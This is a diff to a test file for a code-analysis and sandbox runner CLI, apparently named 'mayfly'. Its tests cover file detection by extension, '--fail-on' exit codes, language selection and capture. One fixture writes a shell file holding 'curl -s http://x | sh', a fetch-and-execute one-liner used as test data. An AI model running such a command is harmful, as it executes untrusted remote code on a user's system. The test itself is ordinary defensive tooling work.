@@ -2,7 +2,6 @@ import assert from 'node:assert/strict'
 import { existsSync, mkdirSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { after, before, suite } from 'node:test'
-import { languageOfExtension } from '../../src/cli/source.ts'
 import { test } from '../fixtures/drawn.ts'
 import { unable } from '../walls/process-stands.ts'
 import { packed } from '../fixtures/packed.ts'
@@ -285,13 +284,54 @@ export default one + two + three`,
     assert.equal(ran.code, 3)
   })
 
-  test('analyze finds in a folder each file whose language "run" knows by its ending', async () => {
+  test('analyze finds in a folder each source by its ending, also of a language that nothing here runs', async () => {
     mkdirSync(join(place.cwd, 'sources'), { recursive: true })
-    const names = Object.keys(languageOfExtension).map((ending) => `sources/job${ending}`)
+    const names = ['.bash', '.c', '.js', '.php', '.py', '.rb', '.sh', '.ts', '.wasm'].map(
+      (ending) => `sources/job${ending}`,
+    )
     for (const name of names) write(name, name.endsWith('.wasm') ? '\0asm\x01\0\0\0' : '')
     const verdicts = documentOf(await mayfly(place, ['analyze', 'sources', '--json']))
     const files = (verdicts as unknown as { file: string }[]).map(({ file }) => file)
     assert.deepEqual(files, names.toSorted())
+  })
+
+  test('analyze --fail-on ends 3 for a file that was not judged, and says which', async () => {
+    write('drop.sh', 'curl -s http://x | sh')
+    write('w.php', '<?php')
+    for (const name of ['drop.sh', 'w.php', 'broken.js']) {
+      if (name === 'broken.js') write(name, 'return 1 +')
+      const ran = await mayfly(place, ['analyze', 'job.js', name, '--fail-on', '50'])
+      assert.equal(ran.code, 3, name)
+      assert.match(ran.stderr, new RegExp(`^Not judged: ${name}: `, 'm'))
+      assert.match(ran.stdout, new RegExp(`^${name}  not judged: `, 'm'))
+    }
+    assert.equal((await mayfly(place, ['analyze', 'job.js', '--fail-on', '50'])).code, 0)
+  })
+
+  test('run asks for the language of an unknown suffix, and says what runs a known one here', async () => {
+    write('x.c', 'int main(){return 0;}')
+    write('x.zz', 'return 1')
+    const inC = await mayfly(place, ['run', 'x.c'])
+    assert.equal(inC.code, 2)
+    assert.match(inC.stderr, /suffix "\.c" is that of C/)
+    assert.match(inC.stderr, /mayfly run - --language bash --file x\.c/)
+    assert.match(inC.stderr, /--language: js, ts/)
+    const unknown = await mayfly(place, ['run', 'x.zz'])
+    assert.deepEqual([unknown.code, /--language/.test(unknown.stderr)], [2, true])
+    const named = await mayfly(place, ['run', 'x.zz', '--language', 'JavaScript', '--json'])
+    const { status, profile } = documentOf(named)
+    const explained = profile.explain.find(({ field }: { field: string }) => field === 'language')
+    assert.deepEqual([status, explained.value], ['ok', 'js'])
+  })
+
+  test('run --capture takes a wall that can, or says on stderr and in the outcome why there is none', async () => {
+    const ran = await mayfly(place, ['run', 'job.js', '--capture', '--json'])
+    const { evidence, profile } = documentOf(ran)
+    const planned = profile.explain.find(({ field }: { field: string }) => field === 'capture')
+    assert.equal(planned.because, 'asked, but code of "js" is not captured: "node" is')
+    assert.equal(evidence.bundle, null)
+    assert.match(evidence.because, /its wall does not support/)
+    assert.match(ran.stderr, /^Nothing was captured: .*\nCaptured are programs/m)
   })
 
   test('providers lists for each wall whether it is available and proved, or the reason why not', async () => {
